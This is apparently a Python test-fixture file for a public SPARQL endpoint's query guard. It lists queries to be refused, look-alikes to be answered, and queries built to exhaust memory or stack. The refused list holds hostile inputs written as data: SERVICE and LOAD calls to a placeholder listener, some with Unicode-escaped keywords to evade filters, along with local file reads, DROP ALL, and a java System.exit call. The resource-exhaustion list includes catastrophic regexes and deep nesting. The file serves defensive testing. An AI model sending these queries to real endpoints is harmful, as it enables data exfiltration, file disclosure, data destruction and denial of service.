"""Queries that want out, want in, or want everything: what a public endpoint is sent sooner or later.

THERE and SECRET stand for the address of a listener and for a file, which must see and give nothing.
"""

_A = "?a ?b ?c . ?d ?e ?f . ?g ?h ?i"
_MANY = " ".join(f"VALUES ?v{n} {{ {' '.join(map(str, range(60)))} }}" for n in range(6))
_WIDE = "|".join(f"<urn:p{n}>" for n in range(300))
_ALL = "(<urn:x>|!<urn:x>)"

REACHING = [
    "SELECT * { SERVICE <THERE> { ?s ?p ?o } }",
    "SELECT * { SERVICE SILENT <THERE> { ?s ?p ?o } }",
    "select * { service<THERE>{ ?s ?p ?o } }",
    "SELECT * { VALUES ?g { <THERE> } SERVICE ?g { ?s ?p ?o } }",
    "SELECT * { BIND(IRI('THERE') AS ?g) SERVICE SILENT ?g { ?s ?p ?o } }",
    r"SELECT * { \u0053ERVICE <THERE> { ?s ?p ?o } }",
    r"SELECT * { \U00000053\u0045RVICE <THERE> { ?s ?p ?o } }",
    r"SELECT * { S\u0045RVICE SILENT <THERE> {} }",
    "SELECT * { ?s ?p '#' . SERVICE <THERE> { ?s ?p ?o } }",
    'SELECT * { ?s ?p """\\"""" . SERVICE <THERE> { ?s ?p ?o } }',
    "SELECT * { ?s ?p '''it's''' . SERVICE <THERE> { ?s ?p ?o } }",
    "SELECT * { # comment\rSERVICE <THERE> { ?s ?p ?o } }",
    "SELECT * { FILTER(1<2) SERVICE <THERE> { FILTER(3>2) } }",
    "PREFIX t: <THERE> SELECT * { SERVICE t: { ?s ?p ?o } }",
    "PREFIX e: <urn:e#> SELECT * { ?s e:\\#x ?o . SERVICE <THERE> { ?s ?p ?o } }",
    "BASE <THERE> SELECT * { SERVICE <sparql> { ?s ?p ?o } }",
    "SELECT * { { SELECT * { SERVICE <THERE> { ?s ?p ?o } } } }",
    "ASK { FILTER EXISTS { SERVICE <THERE> { ?s ?p ?o } } }",
    "ASK { FILTER NOT EXISTS { SERVICE <THERE> { ?s ?p ?o } } }",
    "SELECT * { OPTIONAL { SERVICE <THERE> { ?s ?p ?o } } }",
    "SELECT * { { ?s ?p ?o } MINUS { SERVICE <THERE> { ?s ?p ?o } } }",
    "CONSTRUCT { ?s ?p ?o } { SERVICE <THERE> { ?s ?p ?o } }",
    "DESCRIBE ?s { SERVICE <THERE> { ?s ?p ?o } }",
    "SELECT * FROM <THERE> { ?s ?p ?o }",
    "SELECT * FROM NAMED <THERE> { GRAPH ?g { ?s ?p ?o } }",
    r"SELECT * \u0046ROM <THERE> { ?s ?p ?o }",
    "SELECT * FROM <file://SECRET> { ?s ?p ?o }",
    "SELECT * FROM <SECRET> { ?s ?p ?o }",
    "ASK FROM <file://SECRET> { ?s ?p ?o }",
    "CONSTRUCT FROM <file://SECRET> WHERE { ?s ?p ?o }",
    "DESCRIBE <file://SECRET> FROM <file://SECRET>",
    "LOAD <THERE>",
    "LOAD SILENT <file://SECRET> INTO GRAPH <urn:g>",
    "INSERT { ?s ?p ?o } WHERE { SERVICE <THERE> { ?s ?p ?o } }",
    "INSERT DATA { <urn:a> <urn:b> <urn:c> } ; LOAD <THERE>",
    "SELECT * {} ; LOAD <THERE>",
    "ASK {} INSERT DATA { <urn:a> <urn:b> <urn:c> }",
    "PREFIX : <urn:x> DELETE WHERE { ?s ?p ?o }",
    "DROP ALL",
    "ASK { BIND(<http://www.w3.org/ns/formats/load>('THERE') AS ?x) }",
    "SELECT (<java:java.lang.System.exit>(1) AS ?x) {}",
]
"""All are refused."""

HARMLESS = [
    "SELECT * { GRAPH <file://SECRET> { ?s ?p ?o } }",
    "SELECT * { GRAPH <THERE> { ?s ?p ?o } }",
    "DESCRIBE <file://SECRET>",
    "DESCRIBE <THERE>",
    "SELECT ('SERVICE <THERE>' AS ?x) {}",
]
"""What only looks so: it is answered, from here."""

DEVOURING = [
    f"SELECT * {{ {_A} }}",
    f"SELECT (COUNT(*) AS ?n) {{ {_A} }}",
    f"SELECT DISTINCT ?a ?d ?g {{ {_A} }}",
    f"SELECT * {{ {_A} }} ORDER BY ?c ?f ?i",
    f"SELECT ?a (GROUP_CONCAT(STR(?f)) AS ?t) {{ {_A} }} GROUP BY ?a",
    f"CONSTRUCT {{ ?a ?e ?i }} {{ {_A} }}",
    f"DESCRIBE ?a ?d {{ {_A} }}",
    f"ASK {{ {_A} FILTER(?c = 'no such text' && ?f = ?i && ?a = 1) }}",
    f"SELECT (COUNT(*) AS ?n) {{ {_MANY} }}",
    f"SELECT * {{ {_MANY} }} ORDER BY ?v5",
    f"SELECT DISTINCT (?v0 + ?v1 * ?v2 - ?v3 AS ?x) {{ {_MANY} }}",
    f"SELECT (COUNT(*) AS ?n) {{ ?s {_ALL}* ?o }}",
    f"SELECT * {{ ?s {_ALL}+ ?o . ?o {_ALL}* ?t }}",
    f"SELECT (COUNT(*) AS ?n) {{ ?s ({_ALL}/^{_ALL})* ?o }}",
    f"SELECT (COUNT(*) AS ?n) {{ ?s (({_ALL}*)*/^({_ALL}*))* ?o }}",
    f"SELECT (COUNT(*) AS ?n) {{ ?s ({_WIDE})* ?o . ?t ({_WIDE})* ?u }}",
    "SELECT (COUNT(*) AS ?n) { ?s !<urn:x> ?o . ?o2 !<urn:x> ?s2 . FILTER(STR(?o) < STR(?s2)) }",
    "SELECT * { ?a ?b ?c . FILTER NOT EXISTS { ?d ?e ?f . ?g ?h ?i . FILTER(STRLEN(STR(?f)) > 100000) } }",
    "SELECT * { ?a ?b ?c FILTER EXISTS { ?d ?e ?f . ?g ?h ?i FILTER(?a = ?f && ?c = ?g && ?h = 1) } }",
    "SELECT * { ?a ?b ?c OPTIONAL { ?d ?e ?f OPTIONAL { ?g ?h ?i OPTIONAL { ?j ?k ?l } } } }",
    f"SELECT * {{ ?a ?b ?c {' '.join(f'OPTIONAL {{ ?a ?p{n} ?o{n} }}' for n in range(40))} }}",
    f"SELECT (COUNT(*) AS ?n) {{ {' UNION '.join(['{ ' + _A + ' }'] * 20)} }}",
    f"SELECT * {{ {{ SELECT * {{ {_A} }} ORDER BY ?i }} FILTER(RAND() > 0.5) }} ORDER BY RAND()",
    f"SELECT * {{ ?a ?b ?c . ?d ?e ?f FILTER(REGEX(CONCAT(STR(?c), STR(?f)), '{'(a|b|c)*' * 20}x')) }}",
    "SELECT (REPLACE(REPLACE(STR(?c), '.', '$0$0$0$0$0$0$0$0'), '.', '$0$0$0$0$0$0$0$0') AS ?x) { ?a ?b ?c . ?d ?e ?f }",
    f"SELECT ({'CONCAT(' * 30}STR(?c){', STR(?c))' * 30} AS ?x) {{ ?a ?b ?c . ?d ?e ?f }}",
    f"SELECT * {{ BIND('xxxxxxxxxxxxxxxx' AS ?x0) {' '.join(f'BIND(CONCAT(?x{n}, ?x{n}) AS ?x{n + 1})' for n in range(40))} }}",
    f"SELECT (SHA512({'CONCAT(' * 20}STR(?c){', SHA512(STR(?f)))' * 20}) AS ?x) {{ ?a ?b ?c . ?d ?e ?f }}",
    f"SELECT * {{ {'{' * 180} {_A} {'}' * 180} }}",
    f"SELECT * {{ {'{' * 5000} ?s ?p ?o {'}' * 5000} }}",
    f"SELECT * {{ ?s ?p ?o FILTER({'(' * 5000}?o{')' * 5000}) }}",
    f"SELECT * {{ ?s ?p ?o FILTER({'!' * 50000}?o) }}",
    f"SELECT * {{ ?s ?p ?o FILTER({'||'.join(['?o'] * 50000)}) }}",
    f"SELECT * {{ ?s {'/'.join(['<urn:p>'] * 1500)} ?o }}",
    f"SELECT * {{ ?s {'/'.join([_ALL] * 60)} ?o }}",
    f"SELECT * {{ ?s ?p {'(' * 190}{')' * 190} }}",
    f"SELECT * {{ {'OPTIONAL { ?s ?p ?o }' * 1500} }}",
    f"SELECT * {{ {' UNION '.join(['{?s ?p ?o}'] * 1500)} }}",
    f"SELECT * {{ VALUES ?x {{ {' '.join(map(str, range(100000)))} }} VALUES ?y {{ {' '.join(map(str, range(20000)))} }} }}",
    f"ASK {{}} #{'x' * 900_000}",
]
"""What an engine would work at until its memory or its stack is gone."""
